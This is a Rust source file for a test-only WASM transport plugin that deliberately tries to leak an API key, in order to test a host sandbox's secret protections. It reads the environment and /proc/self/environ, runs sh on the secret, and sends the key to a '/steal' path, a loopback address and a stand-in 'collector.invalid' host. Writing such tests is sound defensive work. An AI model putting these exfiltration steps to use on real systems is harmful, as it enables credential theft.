//! Test-only transport that holds a secret handle (an API key granted for one HTTP header) and
//! tries, in `provision`, every way to learn the value or send it somewhere else; each attempt
//! is logged as one warning line `hostile <attempt>: <what it got>`, then provision fails.
//!
//! ```text
//! env       the WASI environment (the host gives a component none)
//! file      the config file and /proc/self/environ through std::fs (no directory is preopened)
//! setting   LIUM_API_KEY by name (a secret is never a setting), LIUM_API_KEY_HANDLE (the name)
//! process   sh printing the handle's value reversed (a header secret never reaches a process)
//! reflect   a GET under the base URL with the key in its header, to a server that echoes the
//!           request back (allowed: the host scrubs the value from the answer)
//! header    the handle in another header (refused: the grant names one header)
//! base      the handle to the same server outside the base URL (refused)
//! host      the handle to a loopback host and a name the profile does not declare (refused)
//! ```
//!
//! The base URL comes from the setting `LIUM_BASE_URL`; tests/e2e/lium.rs installs this
//! component as a pack and checks that no line carries the key.

// The whole crate is WIT glue for a wasm32-wasip2 component: host/wfhost-builtins builds it,
// and the end-to-end tests load it. On any other target the crate is empty.
#![cfg(target_arch = "wasm32")]

wit_bindgen::generate!({ world: "transport-plugin", path: "../../../wit" });

use exports::wfhost::plugin::transport::{ExecSpec, FetchSource, Guest, TransportError};
use wfhost::plugin::http;
use wfhost::plugin::log::{self, Level};
use wfhost::plugin::process::{self, RunRequest};
use wfhost::plugin::settings;
use wfhost::plugin::types::{CommandResult, Kv, PodIdentity, PodReport};

struct Hostile;

/// The header the grant names.
const HEADER: &str = "X-API-KEY";

fn say(attempt: &str, got: &str) {
    log::emit(Level::Warn, &format!("hostile {attempt}: {got}"));
}

fn unsupported<T>() -> Result<T, TransportError> {
    Err(TransportError::Failed("not supported by the hostile transport".into()))
}

/// One GET with the handle in `header`, through the http capability: what came back.
fn get(url: &str, handle: &str, header: &str) -> String {
    let request = http::Request {
        method: http::Method::Get,
        url: url.to_string(),
        headers: vec![],
        secret_headers: vec![http::SecretHeader { name: header.into(), handle: handle.into(), prefix: String::new() }],
        body: None,
        timeout_ms: 5_000,
        side_effect: false,
        idempotency_key: None,
    };
    match http::send(&request) {
        Ok(answer) => format!("answered {}: {}", answer.status, String::from_utf8_lossy(&answer.body)),
        Err(http::HttpError::Refused(m)) => format!("refused: {m}"),
        Err(http::HttpError::Unreachable(m)) => format!("unreachable: {m}"),
        Err(http::HttpError::Timeout(m)) => format!("timeout: {m}"),
        Err(http::HttpError::TooLarge(m)) => format!("too-large: {m}"),
        Err(http::HttpError::Failed(m)) => format!("failed: {m}"),
    }
}

impl Guest for Hostile {
    fn id() -> String {
        "hostile-lium".into()
    }

    fn check_config() -> Result<(), TransportError> {
        Ok(())
    }

    /// It never binds a pod: every target is refused.
    fn parse_target(target: String) -> Result<String, TransportError> {
        Err(TransportError::Invalid(format!("{target}: the hostile transport binds no pod")))
    }

    fn provision(_: String, _: String) -> Result<PodIdentity, TransportError> {
        let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
        say("env", &format!("{} variable(s): {}", vars.len(), vars.join(" ")));
        for path in ["infra_scripts/workflow.env", "/proc/self/environ", "."] {
            match std::fs::read(path) {
                Ok(bytes) => say("file", &format!("{path}: read {} byte(s): {}", bytes.len(), String::from_utf8_lossy(&bytes))),
                Err(e) => say("file", &format!("{path}: error: {e}")),
            }
        }
        say("setting", &format!("LIUM_API_KEY = {:?}", settings::get("LIUM_API_KEY")));
        let handle = settings::get("LIUM_API_KEY_HANDLE").unwrap_or_default();
        say("setting", &format!("LIUM_API_KEY_HANDLE = {handle:?}"));
        let ran = process::run(&RunRequest {
            program: "sh".into(),
            args: vec!["-c".into(), "printf %s \"$K\" | rev".into()],
            cwd: None,
            env: vec![],
            secret_env: vec![Kv { key: "K".into(), value: handle.clone() }],
            stdin: None,
            timeout_ms: 5_000,
        });
        match ran {
            Ok(r) => say("process", &format!("ran: stdout {:?}", r.stdout)),
            Err(e) => say("process", &format!("refused: {e}")),
        }
        let base = settings::get("LIUM_BASE_URL").unwrap_or_default();
        let base = base.trim_end_matches('/');
        say("reflect", &get(&format!("{base}/users/me"), &handle, HEADER));
        say("header", &get(&format!("{base}/users/me"), &handle, "X-Echo"));
        let root = base.split('/').take(3).collect::<Vec<_>>().join("/");
        say("base", &get(&format!("{root}/steal"), &handle, HEADER));
        let port = root.rsplit(':').next().unwrap_or("80");
        say("host", &get(&format!("http://127.0.0.2:{port}/api/users/me"), &handle, HEADER));
        say("host", &get("https://collector.invalid/api/users/me", &handle, HEADER));
        Err(TransportError::Failed("the hostile transport rents nothing".into()))
    }

    fn status(target: String) -> Result<PodReport, TransportError> {
        Err(TransportError::Vanished(target))
    }

    fn resolve_path(_: String, _: String) -> Result<String, TransportError> {
        unsupported()
    }

    fn exec(_: String, _: ExecSpec) -> Result<CommandResult, TransportError> {
        unsupported()
    }

    fn put_file(_: String, _: String, _: Vec<u8>, _: u32) -> Result<(), TransportError> {
        unsupported()
    }

    fn get_file(_: String, _: String, _: u64) -> Result<Vec<u8>, TransportError> {
        unsupported()
    }

    fn fetch_command(_: String, _: String) -> Result<FetchSource, TransportError> {
        unsupported()
    }

    fn fetch_ended(_: String, _: String, _: CommandResult) -> Result<(), TransportError> {
        unsupported()
    }

    fn delete(_: String) -> Result<(), TransportError> {
        Ok(())
    }
}

export!(Hostile);
